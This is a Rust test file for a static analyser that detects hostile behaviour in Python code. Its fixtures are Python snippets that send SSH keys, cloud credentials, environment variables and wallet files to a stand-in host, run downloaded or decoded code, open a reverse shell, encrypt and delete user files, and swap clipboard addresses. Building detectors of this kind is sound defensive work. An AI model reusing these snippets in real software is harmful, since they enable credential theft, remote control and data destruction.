use super::*;
use crate::action::{CodeOrigin, Taint};

fn actions(text: &str) -> Actions {
    read(text).unwrap_or_else(|error| panic!("{error}: {text}"))
}

fn executes(text: &str) -> Option<CodeOrigin> {
    actions(text).located.into_iter().find_map(|seen| match seen.action {
        Action::ExecutesCode(code) => Some(code),
        _ => None,
    })
}

fn sends(text: &str) -> Taint {
    let sent = actions(text).located.into_iter().find_map(|seen| match seen.action {
        Action::Connects { sends, .. } if sends.is_secret() => Some(sends),
        _ => None,
    });
    sent.unwrap_or_default()
}

fn inner(text: &str) -> Vec<String> {
    actions(text).embedded.into_iter().map(|inner| inner.text).collect()
}

#[test]
fn credentials_flow_to_hosts() {
    for text in [
        "import requests\nd = open('/root/.ssh/id_rsa').read()\nrequests.post('https://a.example', data=d)",
        "import os, requests as r\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nr.post('https://a.example', json={'x': p.read_text()})",
        "import urllib.request as u, os\nwith open(os.path.expanduser('~/.ssh/' + 'id_rsa')) as f:\n    d = f.read()\nu.urlopen(u.Request('https://a.example', data=d.encode()))",
        "import requests\ndef load():\n    return open('/x/.ssh/id_rsa').read()\ndef send(d):\n    requests.post('https://a.example', data=d)\nsend(load())",
        "import requests\nall = []\nfor p in ['~/.ssh/id_rsa']:\n    all.append(open(p).read())\nrequests.post('https://a.example', data=str(all))",
        "import subprocess, requests\nd = subprocess.check_output(['cat', '/x/.ssh/id_rsa'])\nrequests.post('https://a.example', data=d)",
        "import socket\ns = socket.socket()\ns.connect(('a.example', 1))\ns.sendall(open('/x/.ssh/id_rsa','rb').read())",
        "import base64, http.client\nd = base64.b64encode(open('/etc/shadow','rb').read())\nc = http.client.HTTPSConnection('a.example')\nc.request('POST', '/', d)",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
    let text = "import os, requests, json\nrequests.post('https://a.example', data=json.dumps(dict(os.environ)))";
    assert!(sends(text).environment);
    let text = "import os, requests\ne = {k: v for k, v in os.environ.items()}\nrequests.post('https://a.example', json=e)";
    assert!(sends(text).environment);
}

#[test]
fn login_tokens_are_not_reported_as_sent() {
    let text = "import os, requests\nk = os.environ['API_KEY']\nrequests.get('https://api.example', headers={'Authorization': f'Bearer {k}'})";
    assert!(!sends(text).is_secret());
    let text = "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'A': 'b'})";
    assert!(!sends(text).is_secret());
}

#[test]
fn downloaded_code_is_reported() {
    let fetched = Some(CodeOrigin::Fetched("https://a.example/x".into()));
    assert_eq!(
        executes("import requests\nexec(requests.get('https://a.example/x').text)"),
        fetched
    );
    assert_eq!(
        executes("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))"),
        Some(CodeOrigin::Decoded)
    );
    assert_eq!(
        executes("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))"),
        Some(CodeOrigin::Decoded)
    );
    assert_eq!(
        executes("getattr(__import__('built' + 'ins'), 'ex' + 'ec')(input())"),
        Some(CodeOrigin::Computed)
    );
    assert_eq!(executes("__builtins__['ex' + 'ec'](x)"), Some(CodeOrigin::Computed));
    assert_eq!(executes("print('exec')"), None);
}

#[test]
fn constants_are_folded() {
    assert_eq!(inner("import os\nos.system('cu' + 'rl x')"), ["curl x"]);
    assert_eq!(
        inner("import os\nos.system(''.join(chr(c) for c in [99, 117, 114, 108]))"),
        ["curl"]
    );
    assert_eq!(inner("import os\nos.system(''.join(map(chr, [99, 117, 114, 108])))"), ["curl"]);
    assert_eq!(inner("import os\nos.system(bytes([99, 117, 114, 108]).decode())"), ["curl"]);
    assert_eq!(inner("import os\nos.system('lruc'[::-1])"), ["curl"]);
    assert_eq!(inner("import os\nos.system(bytes.fromhex('6375726c').decode())"), ["curl"]);
    assert_eq!(inner("import os\nos.system('%s %s' % ('curl', 'x'))"), ["curl x"]);
    assert_eq!(inner("import os\nos.system(' '.join(['curl', 'x']))"), ["curl x"]);
    assert_eq!(inner("import codecs, os\nos.system(codecs.decode('phey', 'rot13'))"), ["curl"]);
    assert_eq!(
        inner("import os\nos.system(''.join(chr(c ^ 1) for c in [98, 116, 115, 109]))"),
        ["curl"]
    );
}

#[test]
fn reverse_shells_are_found() {
    let text = "import socket, subprocess, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])";
    assert!(actions(text).located.iter().any(|seen| seen.action == Action::ReverseShell));
}

#[test]
fn invalid_python_is_an_error() {
    assert!(read("print 'hello'\n").is_err());
    assert!(read(&"(".repeat(100_000)).is_err());
}

fn has(text: &str, wanted: &Action) -> bool {
    actions(text).located.iter().any(|seen| seen.action == *wanted)
}

fn hosts(text: &str) -> Vec<(String, Vec<String>)> {
    let network = actions(text).located.into_iter().filter_map(|seen| match seen.action {
        Action::Connects { to, log_in, .. } => Some((to, log_in)),
        _ => None,
    });
    network.collect()
}

#[test]
fn secrets_flow_through_objects_and_functions() {
    for text in [
        "import os, requests\nclass T:\n    url = 'https://a.example'\n    def __init__(self):\n        self.data = {'ctx': {}}\n    def collect(self):\n        self.data['ctx'].update({k: v for k, v in os.environ.items()})\n        return self\n    def send(self):\n        requests.post(self.url, json=self.data)\nT().collect().send()",
        "import requests\nfrom os import environ as E\nrequests.post('https://a.example', json={k: E[k] for k in E})",
        "import requests, subprocess\nrequests.post('https://a.example', data=subprocess.run('env', shell=True, capture_output=True).stdout)",
    ] {
        assert!(sends(text).environment, "{text}");
    }
    for text in [
        "import requests\nread = lambda p: open(p).read()\nrequests.post('https://a.example', data=read('/x/.ssh/id_rsa'))",
        "import requests\ndef files():\n    for p in ('~/notes', '~/.ssh/id_rsa'):\n        yield open(p).read()\nrequests.post('https://a.example', data=next(files()))",
        "import requests, os\np = next((p for p in map(os.path.expanduser, ['a', '~/.config/chromium/Default/Login Data']) if p), None)\nrequests.post('https://a.example', data=open(p, 'rb'))",
        "import threading, requests\ndef go(p):\n    requests.post('https://a.example', data=open(p).read())\nthreading.Thread(target=go, args=('/x/.ssh/id_rsa',)).start()",
        "from concurrent.futures import ThreadPoolExecutor\nimport boto3, os\ns3 = boto3.client('s3')\ndef up(p):\n    s3.upload_file(p, 'b', 'k')\ndef files(r):\n    for b, _, ns in os.walk(r):\n        for n in ns:\n            yield os.path.join(b, n)\nwith ThreadPoolExecutor() as pool:\n    pool.map(up, (f for r in ['~/.ssh', '~/x'] for f in files(r)))",
        "import io, tarfile, importlib, glob, os\ndef pack():\n    mem = io.BytesIO()\n    with tarfile.open(fileobj=mem, mode='w') as t:\n        for f in glob.glob(os.path.expanduser('~/.electrum/wallets/*')):\n            t.add(f)\n    return mem\nimportlib.import_module('ftplib').FTP('a.example').storbinary('STOR x', pack())",
        "import zipfile, requests\nz = zipfile.ZipFile('/tmp/x.zip', 'w')\nz.write('/x/.ssh/id_rsa')\nrequests.post('https://a.example', files={'f': open('/tmp/x.zip', 'rb')})",
        "import smtplib, shutil\nfrom email.message import EmailMessage\nc = shutil.copy('/x/.ssh/id_rsa', '/tmp/q')\nm = EmailMessage()\nm['To'] = 'x'\nm.add_attachment(open(c, 'rb').read())\nwith smtplib.SMTP('a.example') as s:\n    s.send_message(m)",
        "from pathlib import Path\nimport requests\nc = Path.home() / '.ssh' / 'config'\nfor p in c.parent.iterdir():\n    requests.post('https://a.example', data=p.read_bytes())",
        "import subprocess, requests\nd = subprocess.run(['git', 'credential', 'fill'], input='x', capture_output=True)\nrequests.post('https://a.example', data=d.stdout)",
        "import dns.resolver\nk = open('/x/.ssh/id_rsa').read()\ndns.resolver.resolve(k + '.a.example', 'TXT')",
        "import subprocess\nsubprocess.run(['curl', '-d', '@-', 'https://a.example'], input=open('/x/.ssh/id_rsa').read())",
        "import getpass, requests\nrequests.post('https://a.example', json={'p': getpass.getpass()})",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
}

#[test]
fn hosts_and_secrets_of_sessions_are_known() {
    let token = |name: &str| vec![name.to_owned()];
    let text = "import requests, os\ns = requests.Session()\ns.headers['Authorization'] = os.environ['GITHUB_TOKEN']\ns.get('https://a.example/x')";
    assert!(hosts(text).contains(&("https://a.example/x".into(), token("GITHUB_TOKEN"))));
    let text = "import os, openai\nc = openai.OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://a.example/v1')";
    assert!(hosts(text).contains(&("https://a.example/v1".into(), token("OPENAI_API_KEY"))));
    let text = "import os\nos.environ['OPENAI_BASE_URL'] = 'https://a.example/v1'";
    assert!(hosts(text).contains(&("https://a.example/v1".into(), token("OPENAI_API_KEY"))));
    let text = "import http.client, os\nc = http.client.HTTPSConnection('a.example')\nc.request('GET', '/e?' + os.environ['HF_TOKEN'])";
    assert!(hosts(text).iter().any(|(to, _)| to.starts_with("https://a.example/e?")));
    assert_eq!(sends(text).tokens, token("HF_TOKEN"));
    let text = "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token'])\nrequests.get('https://api.github.com', headers={'Authorization': t})";
    assert!(!sends(text).is_secret());
    let text = "import getpass, requests\nrequests.get('https://a.example', auth=('me', getpass.getpass()))";
    assert!(!sends(text).is_secret());
}

#[test]
fn taint_flows_through_written_files() {
    for text in [
        "import urllib.request, subprocess, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'helper')\nurllib.request.urlretrieve('https://a.example/x', p)\nsubprocess.Popen([p])",
        "import requests, os\nwith open('/tmp/h', 'wb') as f:\n    f.write(requests.get('https://a.example/x').content)\nos.chmod('/tmp/h', 0o755)",
        "import requests, os\nfrom pathlib import Path\np = Path('/tmp/h.sh')\np.write_bytes(requests.get('https://a.example/x').content)\nos.system(f'bash {p}')",
        "import requests\nopen('/tmp/h.py', 'w').write(requests.get('https://a.example/x').text)\nexec(open('/tmp/h.py').read())",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('https://a.example/x', 1))\nsubprocess.run(s.recv(1024), shell=True)",
    ] {
        assert_eq!(
            executes(text),
            Some(CodeOrigin::Fetched("https://a.example/x".into())),
            "{text}"
        );
    }
    let text = "import dns.resolver, os\ndef ask(n):\n    try:\n        return b''.join(dns.resolver.resolve(f'{n}.a.example', 'TXT')[0].strings).decode()\n    except ValueError:\n        return ''\ntask = ask('x')\nif task:\n    os.popen(task)";
    assert_eq!(executes(text), Some(CodeOrigin::Fetched("x.a.example".into())));
    for text in [
        "import requests, subprocess\nopen('data.json', 'w').write(requests.get('https://a.example/x').text)\nsubprocess.run(['jq', '.', 'data.json'])",
        "import requests, subprocess\nname = requests.get('https://a.example/x').json()['name']\nsubprocess.run(['git', 'checkout', name])",
        "import requests, os\nopen('/tmp/h', 'wb').write(requests.get('https://a.example/x').content)\nos.chmod('/tmp/h', 0o600)",
    ] {
        assert_eq!(executes(text), None, "{text}");
    }
}

#[test]
fn functions_of_other_files_are_known() {
    let mut state = CrossFileState::default();
    let main = "from pathlib import Path\nimport store\nstore.save(Path.home() / '.ssh')";
    let store = "import requests\ndef save(folder):\n    for p in folder.iterdir():\n        requests.post('https://a.example', data=p.read_bytes())";
    for _ in 0..2 {
        assert!(read_with(main, &mut state).is_ok());
        let found = read_with(store, &mut state).unwrap_or_default();
        let sent = found.located.iter().any(
            |seen| matches!(&seen.action, Action::Connects { sends, .. } if sends.credential.is_some()),
        );
        assert!(sent);
    }
}

#[test]
fn credential_paths_are_recorded_once() {
    let text = "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nq = '~/.aws/credentials'";
    let names = actions(text)
        .located
        .into_iter()
        .filter(|seen| matches!(seen.action, Action::MentionsCredentials(_)));
    assert_eq!(names.count(), 1);
    assert!(!has(
        "'''Reads ~/.aws/credentials.'''",
        &Action::MentionsCredentials("AWS credentials")
    ));
}

#[test]
fn password_dialogs_are_found() {
    let asks = Action::AsksForSecret("a password in a window of its own");
    assert!(has(
        "from tkinter import simpledialog\nsimpledialog.askstring('a', 'b', show='*')",
        &asks
    ));
    assert!(!has("from tkinter import simpledialog\nsimpledialog.askstring('a', 'b')", &asks));
    assert!(!has("import getpass\ngetpass.getpass()", &asks));
}

#[test]
fn user_files_and_clipboard_are_tainted() {
    let ransom = Action::DestroysData("the user's files after encrypting them".into());
    let text = "import pathlib\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor p in pathlib.Path('x').rglob('*'):\n    p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()";
    assert!(has(text, &ransom));
    assert!(!has(&text.replace("    p.unlink()", "    print(p)"), &ransom));
    let swap = Action::Obfuscates("the clipboard content of the user is replaced");
    let text = "import re, pyperclip\nwhile True:\n    if re.match('^bc1', pyperclip.paste()):\n        pyperclip.copy('bc1x')";
    assert!(has(text, &swap));
    assert!(!has("import re, pyperclip\nre.match('a', 'b')\npyperclip.copy('x')", &swap));
    let deletes =
        |path: &str| format!("import shutil, os\nshutil.rmtree(os.path.expanduser('{path}'))");
    assert!(has(&deletes("~/Documents"), &Action::DestroysData("~/Documents".into())));
    assert!(!has(&deletes("~/Documents/cache"), &Action::DestroysData("~/Documents/cache".into())));
}

#[test]
fn harmless_scripts_have_no_actions() {
    for text in [
        "import requests, json\nconfig = json.load(open('config.json'))\nrequests.post(config['url'], json={'text': input()})",
        "import os, requests\nconfig = {'token': os.environ['X_TOKEN'], 'url': 'https://a.example'}\nrequests.post(config['url'], json={'q': 1})",
        "import os, httpx\nc = httpx.Client(base_url='https://a.example', headers={'Authorization': os.environ['X_KEY']})\nc.post('/q', json={'q': 1})",
    ] {
        assert!(!sends(text).is_secret(), "{text}");
    }
}

#[test]
fn nested_calls_terminate() {
    let function = |n: usize| format!("def f{n}(x):\n    f{m}(x)\n    f{m}(x)\n", m = n + 1);
    let functions = (0..40).map(function).collect::<Vec<_>>().concat();
    assert!(read(&format!("{functions}f0(1)\n")).is_ok());
    let chain = format!("a{}\n", ".b(1)".repeat(60));
    assert!(read(&chain).is_ok());
}

fn sends_private(text: &str) -> bool {
    let private = |action: &Action| matches!(action, Action::Connects { sends, .. } if sends.private.is_some());
    actions(text).located.iter().any(|seen| private(&seen.action))
}

fn talks_to(text: &str, host: &str) -> bool {
    let talks =
        |action: &Action| matches!(action, Action::Connects { to, .. } if to.contains(host));
    actions(text).located.iter().any(|seen| talks(&seen.action))
}

#[test]
fn assembled_code_is_scanned() {
    for code in [
        "'import x;x.get(%r)' % u",
        "'import x;x.get(%(u)r)' % {'u': u}",
        "f'import x;x.get({u!r})'",
        "'import x;x.get({!r})'.format(u)",
        "'import x;x.get(' + repr(u) + ')'",
    ] {
        let text = format!(
            "import sys, subprocess\nu = 'https://a.example/' + sys.platform\nsubprocess.Popen([sys.executable, '-c', {code}])"
        );
        assert_eq!(inner(&text), ["import x;x.get('https://a.example/{}')"], "{code}");
    }
}

#[test]
fn default_addresses_are_used() {
    for url in [
        "os.getenv('X', 'https://a.example/v1')",
        "os.environ.get('X', 'https://a.example/v1')",
        "cfg.get('x', 'https://a.example/v1')",
        "args.base_url",
    ] {
        let text = format!(
            "import os, argparse, requests\np = argparse.ArgumentParser()\np.add_argument('--base-url', default='https://a.example/v1')\nargs = p.parse_args()\ncfg = load()\nrequests.get({url} + '/x')"
        );
        assert!(talks_to(&text, "https://a.example/v1/x"), "{url}");
    }
    assert!(!talks_to("import os, requests\nrequests.get(os.getenv('X', 'y'))", "y"));
}

#[test]
fn web_form_data_is_tracked() {
    for text in [
        "from flask import request\nimport requests\ndef t():\n    requests.post('https://a.example', json=dict(request.headers))",
        "from flask import request\nimport requests\n@app.before_request\ndef t():\n    requests.post('https://a.example', json=request.get_json())",
        "import requests\nclass M:\n    def __call__(self, request):\n        requests.post('https://a.example', json=request.COOKIES)",
        "import urllib.request as u\nP = '<input type=\"password\">'\nclass H:\n    def do_POST(self):\n        u.urlopen('https://a.example', data=self.rfile.read(9))",
        "import socket, pyperclip\nsocket.socket().sendto(pyperclip.paste().encode()[:9], ('a.example', 53))",
        "import requests\nrequests.post('https://a.example', data=input('Your seed phrase: '))",
    ] {
        assert!(sends_private(text), "{text}");
    }
    for text in [
        "from flask import request\nimport requests\ndef t():\n    requests.post('https://a.example', json=request.get_json())",
        "import requests\ndef t(request):\n    requests.get('https://a.example', headers=request.headers)",
    ] {
        assert!(!sends_private(text), "{text}");
    }
}

#[test]
fn fixed_mail_recipients_are_found() {
    for text in [
        "r = [x.strip() for x in to.split(',')]\nr.append('a@b.example')\ns.send_message(m, to_addrs=r)",
        "s.sendmail(me, [to] + ['a@b.example'], t)",
        "from email.message import EmailMessage\nm = EmailMessage()\nm['Bcc'] = 'a@b.example'",
        "mail.send({'to': [to], 'bcc': ['a@b.example']})",
    ] {
        assert!(talks_to(text, "a@b.example"), "{text}");
    }
    for text in [
        "s.sendmail(me, 'a@b.example', t)",
        "import os\nfrom email.message import EmailMessage\nm = EmailMessage()\nm['Bcc'] = os.getenv('B', 'a@b.example')",
    ] {
        assert!(!talks_to(text, "a@b.example"), "{text}");
    }
}
